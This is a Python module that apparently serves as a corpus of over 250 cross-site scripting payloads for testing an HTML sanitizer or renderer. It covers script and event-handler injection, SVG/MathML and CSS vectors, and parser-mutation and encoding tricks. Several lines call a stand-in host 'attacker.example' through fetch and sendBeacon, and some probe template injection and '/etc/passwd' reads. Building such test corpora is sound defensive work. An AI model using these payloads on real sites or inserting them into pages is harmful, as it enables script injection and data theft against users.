"""What a hostile page could send to run in ours: more than 250 texts, each of which would speak up or ask for something.

The families are those of the well-known cheat sheets: elements, events, SVG and MathML, addresses, styles, ways out of
an attribute or an element, texts that a parser changes when it repeats them, and encodings.
"""

from __future__ import annotations

from typing import Final

SPEAK: Final = "alert(1)"
ASK: Final = "//attacker.example"

ELEMENTS: Final = (
    f"<script>{SPEAK}</script>",
    f"<ScRiPt>{SPEAK}</sCrIpT>",
    f"<script/x>{SPEAK}</script>",
    f"<script\n>{SPEAK}</script\n>",
    f"<script src={ASK}/x.js></script>",
    f"<script src={ASK}/x.js",
    f"<<script>{SPEAK}//<</script>",
    f"<scr<script>ipt>{SPEAK}</scr</script>ipt>",
    f"<script type=module>import '{ASK}/x.js'</script>",
    f"<script>fetch('https:{ASK}/x')</script>",
    f"<script>navigator.sendBeacon('https:{ASK}/x')</script>",
    f"<script>window.open('https:{ASK}/x')</script>",
    f"<script>location='https:{ASK}/x'</script>",
    "<script>confirm(1)</script><script>prompt(1)</script>",
    f"<img src={ASK}/x.png>",
    f"<img src={ASK}/x.png",
    f'<img srcset="{ASK}/x.png 1x">',
    f"<picture><source srcset={ASK}/x.png><img></picture>",
    f"<input type=image src={ASK}/x.png>",
    f"<iframe src={ASK}></iframe>",
    f'<iframe srcdoc="<script>{SPEAK}</script>"></iframe>',
    f"<iframe src=javascript:{SPEAK}></iframe>",
    f"<frameset><frame src=javascript:{SPEAK}></frameset>",
    f"<object data={ASK}/x.swf></object>",
    f"<object data=javascript:{SPEAK}></object>",
    f"<embed src={ASK}/x.swf>",
    f"<embed src=javascript:{SPEAK}>",
    f"<applet code=x archive={ASK}/x.jar></applet>",
    f"<link rel=stylesheet href={ASK}/x.css>",
    f"<link rel=prefetch href={ASK}/x>",
    f"<link rel=preload as=image href={ASK}/x.png>",
    f"<link rel=dns-prefetch href={ASK}>",
    f"<link rel=icon href={ASK}/x.ico>",
    f"<base href={ASK}/>",
    f'<meta http-equiv=refresh content="0;url=https:{ASK}">',
    f'<meta http-equiv=refresh content="0;url=javascript:{SPEAK}">',
    f"<form action={ASK}><button autofocus>go</button></form>",
    f"<form id=x></form><button form=x formaction=javascript:{SPEAK}>go</button>",
    f"<isindex type=image src={ASK}/x action=javascript:{SPEAK}>",
    f"<video src={ASK}/x.mp4 autoplay></video>",
    f"<video poster={ASK}/x.png></video>",
    f"<audio src={ASK}/x.mp3 autoplay></audio>",
    f"<track src={ASK}/x.vtt>",
    f"<bgsound src={ASK}/x.wav>",
    f"<table background={ASK}/x.png><td background={ASK}/y.png>",
    f"<body background={ASK}/x.png>",
    f"<portal src={ASK}></portal>",
    f"<template shadowrootmode=open><script>{SPEAK}</script></template>",
    f"<noscript><img src={ASK}/x.png></noscript>",
    f"<dialog open><img src={ASK}/x.png></dialog>",
)

EVENTS: Final = tuple(
    text.replace("!", SPEAK)
    for text in (
        "<img src=x onerror=!>",
        "<IMG SRC=x ONERROR=!>",
        '<img src=x onerror="!">',
        "<img src=x onerror='!'>",
        "<img src=x onerror=`!`>",
        "<img/src=x/onerror=!>",
        "<img src=x\tonerror\n=\r!>",
        "<img src=x:x onerror=!//",
        "<image src=x onerror=!>",
        "<body onload=!>",
        "<body onpageshow=!>",
        "<body onhashchange=!>",
        "<body onscroll=!><br><br><input autofocus>",
        "<frameset onload=!>",
        "<iframe onload=!></iframe>",
        "<svg onload=!>",
        "<svg/onload=!>",
        "<svg\fonload=!>",
        "<svg onresize=!>",
        "<input autofocus onfocus=!>",
        "<select autofocus onfocus=!>",
        "<textarea autofocus onfocus=!>",
        "<keygen autofocus onfocus=!>",
        "<button autofocus onfocus=!>x</button>",
        "<a href=# tabindex=1 autofocus onfocus=!>x</a>",
        "<x contenteditable autofocus onfocus=!>x</x>",
        "<x tabindex=1 onfocusin=! autofocus>",
        "<details open ontoggle=!>x</details>",
        "<marquee onstart=!>x</marquee>",
        "<video onerror=!><source></video>",
        "<video><source onerror=!></video>",
        "<audio src onerror=!>",
        "<object onerror=! data=x>",
        "<style onload=!></style>",
        "<link rel=stylesheet href=data:, onload=!>",
        "<script src=data:, onload=!></script>",
        "<div onpointerover=! style=position:fixed;inset:0>x</div>",
        "<div onmouseover=! style=position:fixed;inset:0>x</div>",
        "<div style=animation-name:x onanimationstart=!>x</div>",
        "<div style=transition:1s ontransitionend=!>x</div>",
        "<p onbeforematch=! hidden=until-found>x</p>",
        "<div oncontentvisibilityautostatechange=! style=content-visibility:auto>",
        "<input onauxclick=! onbeforeinput=! value=x>",
        "<form onsubmit=!><input type=submit autofocus></form>",
        "<img src=x on error=! onerror  =  !>",
    )
)

FOREIGN: Final = tuple(
    text.replace("!", SPEAK).replace("~", ASK)
    for text in (
        "<svg><script>!</script></svg>",
        "<svg><script href=data:,!></script></svg>",
        "<svg><script xlink:href=~/x.js></script></svg>",
        "<svg><a href=javascript:!><text y=20>x</text></a></svg>",
        "<svg><a xlink:href=javascript:!><text y=20>x</text></a></svg>",
        "<svg><animate onbegin=! attributeName=x dur=1s></svg>",
        "<svg><set onbegin=! attributeName=x></svg>",
        "<svg><animate href=#x attributeName=href values=javascript:!></svg>",
        "<svg><use href=~/x.svg#y></svg>",
        "<svg><use href=data:image/svg+xml,<svg/onload=!>></svg>",
        "<svg><image href=~/x.png></svg>",
        "<svg><feImage href=~/x.svg></svg>",
        "<svg><foreignObject><script>!</script></foreignObject></svg>",
        "<svg><foreignObject><iframe src=javascript:!></foreignObject></svg>",
        "<svg><style>@import '~/x.css'</style></svg>",
        "<svg><desc><![CDATA[</desc><script>!</script>]]></svg>",
        "<svg><title><img src=x onerror=!></title></svg>",
        "<svg><discard onbegin=!></svg>",
        "<math><mtext><script>!</script></mtext></math>",
        "<math href=javascript:!>x</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:!>x</maction></math>",
        "<math><annotation-xml encoding=text/html><script>!</script></annotation-xml></math>",
        "<math><mi><img src=x onerror=!></mi></math>",
        "<xml><script xmlns=http://www.w3.org/1999/xhtml>!</script></xml>",
        "<?xml version=1.0?><?xml-stylesheet href=javascript:!?>",
    )
)

ADDRESSES: Final = tuple(
    text.replace("!", SPEAK).replace("~", ASK)
    for text in (
        "javascript:!",
        "JaVaScRiPt:!",
        " javascript:!",
        "\tjavascript:!",
        "\x01javascript:!",
        "java\tscript:!",
        "java\nscript:!",
        "java\rscript:!",
        "java\x00script:!",
        "javascript\t:!",
        "javascript&colon;!",
        "javascript&#58;!",
        "&#106;avascript:!",
        "&#x6A;avascript:!",
        "&#0000106avascript:!",
        "javascript:/*https://*/!",
        "javascript://https://fda.gov/%0a!",
        "javascript://%0d%0a!",
        "javascript:%61lert(1)",
        "javascript:void(0);!",
        "javascript:'<script>!</script>'",
        "vbscript:msgbox(1)",
        "livescript:!",
        "data:text/html,<script>!</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='!'/>",
        "blob:https:~/1",
        "file:///etc/passwd",
        "view-source:javascript:!",
        "feed:javascript:!",
        "jar:https:~/x.jar!/x.html",
        "https:~\\@www.fda.gov/",
        "https://www.fda.gov@attacker.example/",
        "https://www.fda.gov\u2044.attacker.example/",
        "https://\u202evog.adf/",
        'https://www.fda.gov/" onmouseover="!',
        "https://www.fda.gov/' onmouseover='!",
        "https://www.fda.gov/><script>!</script>",
        'https://www.fda.gov/" style="background:url(~/x)',
        "~/x",
    )
)

STYLES: Final = tuple(
    text.replace("!", SPEAK).replace("~", ASK)
    for text in (
        "<style>@import '~/x.css';</style>",
        "<style>body{background:url(~/x.png)}</style>",
        "<style>li{list-style-image:url(javascript:!)}</style>",
        "<style>@font-face{font-family:x;src:url(~/x.woff)}*{font-family:x}</style>",
        "<style>*{cursor:url(~/x.cur),auto}</style>",
        "<style>h1::after{content:url(~/x.png)}</style>",
        "<style>@namespace url(~/x);</style>",
        "<p style=background:url(~/x.png)>x</p>",
        '<p style="background:u\\72l(~/x.png)">x</p>',
        "<p style=behavior:url(~/x.htc)>x</p>",
        "<p style=-moz-binding:url(~/x.xml#y)>x</p>",
        "<p style=width:expression(!)>x</p>",
        "<p style=list-style:url(~/x.png)>x</p>",
        "<p style=position:fixed;inset:0;z-index:9>all yours</p>",
        "</style><script>!</script><style>",
        "*/}</style><img src=x onerror=!>",
        '}*{background-image:image-set("~/x.png" 1x)}',
        '<div style="--x:url(~/x.png);background:var(--x)">x</div>',
        "<style media=print>*{display:none}</style>",
        "<style>@media print{*{content:url(~/x)}}</style>",
    )
)

_WAYS_OUT: Final = (
    '">',
    "'>",
    "`>",
    '"/>',
    "-->",
    "--!>",
    "]]>",
    "</title>",
    "</style>",
    "</textarea>",
    "</noscript>",
    "</template>",
    "</script>",
    "</code></p></article></main>",
    "</blockquote></details>",
)
OUT_OF_ELEMENTS: Final = tuple(
    f"{way}{what}" for way in _WAYS_OUT for what in (f"<script>{SPEAK}</script>", f"<img src=x onerror={SPEAK}>")
)
OUT_OF_ATTRIBUTES: Final = tuple(
    f"{quote}{blank}{event}={around}{SPEAK}{around} {'x=' + quote if quote else ''}"
    for quote, around in (('"', '"'), ("'", "'"), ("", ""))
    for blank, event in ((" ", "onmouseover"), ("\t", "onfocus autofocus onfocus"), ("/", "onload"), ("\f", "onclick"))
)

REPEATED: Final = tuple(
    text.replace("!", SPEAK)
    for text in (
        "<noscript><p title='</noscript><img src=x onerror=!>'>",
        "<svg></p><style><a id='</style><img src=1 onerror=!>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=!&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=!>",
        "<listing>&lt;img src=x onerror=!&gt;</listing>",
        "<xmp><p title='</xmp><img src=x onerror=!>'>",
        "<plaintext><script>!</script>",
        "<textarea><!--</textarea><img src=x onerror=!>-->",
        "<title><!--</title><img src=x onerror=!>-->",
        "<!--><img src=x onerror=!>-->",
        "<!--[if IE]><script>!</script><![endif]-->",
        "<![CDATA[<script>!</script>]]>",
        "<!DOCTYPE x [<!ENTITY y '<script>!</script>'>]>&y;",
        "<a <script>!</script>",
        "<a href='x'<!--' onclick=!-->",
        "<select><template><script>!</script></template></select>",
        "<table><caption><svg><script>!</script>",
        "<img title='`><img src=x onerror=!>'>",
        "<div id=x><x style='&lt;/div&gt;&lt;script&gt;!'></div>",
        "<svg><![CDATA[><img src=x onerror=!>]]></svg>",
    )
)

ENCODED: Final = tuple(
    text.replace("!", SPEAK)
    for text in (
        "&lt;script&gt;!&lt;/script&gt;",
        "&amp;lt;script&amp;gt;!",
        "&#60;script&#62;!&#60;/script&#62;",
        "&#x3c;script&#x3e;!",
        "&LT;img src=x onerror=!&GT;",
        "%3Cscript%3E!%3C/script%3E",
        "\\u003cscript\\u003e!\\u003c/script\\u003e",
        "\\x3cscript\\x3e!",
        "\ufeff<script>!</script>",
        "\uff1cscript\uff1e!\uff1c/script\uff1e",
        "\u02c2script\u02c3!",
        "+ADw-script+AD4-!+ADw-/script+AD4-",
        "<\u0000script>!</script>",
        "<s\u0000cript>!</script>",
        "<script\u2028>!</script>",
        "\u202e>tpircs/<)1(trela>tpircs<",
        "{{ 7 * 7 }}{{ config }}",
        "{% include '/etc/passwd' %}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "${!}#{!}<%= ! %>",
        "[x](javascript:!) ![x](//attacker.example/x.png)",
        "' onload=! \" onload=! ` onload=!",
        "\ud800<script>!</script>",
        "<script>!</script>" * 20,
    )
)

INJECTIONS: Final = (
    *ELEMENTS,
    *EVENTS,
    *FOREIGN,
    *ADDRESSES,
    *STYLES,
    *OUT_OF_ELEMENTS,
    *OUT_OF_ATTRIBUTES,
    *REPEATED,
    *ENCODED,
)
